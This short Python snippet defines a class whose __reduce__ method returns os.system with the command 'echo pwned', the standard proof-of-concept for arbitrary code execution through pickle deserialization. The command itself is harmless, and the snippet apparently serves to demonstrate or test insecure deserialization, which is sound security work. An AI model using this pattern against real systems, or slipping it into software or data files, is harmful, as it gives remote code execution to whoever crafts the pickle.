import os
class P:
    def __reduce__(self):
        return os.system, ('echo pwned',)
